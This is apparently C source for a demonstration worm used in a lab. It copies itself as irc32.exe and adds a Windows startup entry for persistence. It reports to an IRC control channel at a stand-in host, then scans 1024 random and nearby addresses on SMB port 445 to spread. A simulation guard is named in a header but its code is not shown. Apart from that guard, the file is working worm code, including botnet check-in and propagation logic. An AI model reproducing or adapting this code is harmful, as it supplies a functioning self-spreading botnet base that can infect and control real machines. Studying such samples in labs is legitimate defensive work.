/* What the demonstration's attack installs: a worm with a remote control. It makes itself at home,
 * tells its control server that it is there, and looks for others near itself (half of the targets)
 * and anywhere. */
#include "scan.h"
#include "persist.h"
#include "simulated.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static void report_home(void)
{
	struct sockaddr_in target = { .sin_family = AF_INET, .sin_port = htons(6667) };
	char text[512];
	struct hostent *host = gethostbyname("irc.control.example");
	SOCKET control = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
	if (host == NULL || control == INVALID_SOCKET)
		return;
	memcpy(&target.sin_addr, host->h_addr_list[0], 4);
	if (connect(control, (struct sockaddr *)&target, sizeof target) == 0) {
		unsigned number = (unsigned)rand() % 90000 + 10000;
		sprintf(text, "NICK lab-%u\r\nUSER lab%u 8 * :lab\r\n", number, number);
		send(control, text, (int)strlen(text), 0);
		recv(control, text, sizeof text, 0);
		send(control, "JOIN #kenbi-lab hush\r\n", 22, 0);
		recv(control, text, sizeof text, 0);
	}
	closesocket(control);
}

int main(void)
{
	char path[MAX_PATH];
	WSADATA data;
	leave_unless_simulated();
	if (copy_self("irc32.exe", path))
		start_with_windows("Irc32 Service", path);
	srand(GetTickCount());
	WSAStartup(MAKEWORD(2, 2), &data);
	report_home();
	char name[64] = "";
	gethostname(name, sizeof name);
	const struct hostent *host = gethostbyname(name);
	unsigned long own =
		host ? *(const unsigned long *)host->h_addr_list[0] : inet_addr("192.0.2.20");
	for (unsigned i = 0; i < 1024; i++) {
		unsigned long target = (unsigned long)(rand() % 256) << 16 |
				       (unsigned long)(1 + rand() % 254) << 24;
		if (rand() % 2 == 0)
			target |= own & 0xffff;
		else
			target |= (unsigned long)(1 + rand() % 223) | (unsigned long)(rand() % 256)
									      << 8;
		try_address(target, 445);
		Sleep(1000);
	}
	WSACleanup();
	return 0;
}
